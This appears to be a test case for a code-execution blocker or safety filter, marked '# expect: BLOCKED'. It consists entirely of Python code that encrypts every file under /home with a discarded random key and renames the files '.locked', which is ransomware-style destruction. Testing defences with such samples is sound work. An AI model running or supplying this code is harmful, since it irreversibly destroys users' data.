# expect: BLOCKED
import os
from Crypto.Cipher import AES
key = os.urandom(16)
for root, _, files in os.walk("/home"):
    for f in files:
        p = os.path.join(root, f)
        data = open(p, "rb").read()
        open(p, "wb").write(AES.new(key, AES.MODE_EAX).encrypt(data))
        os.rename(p, p + ".locked")
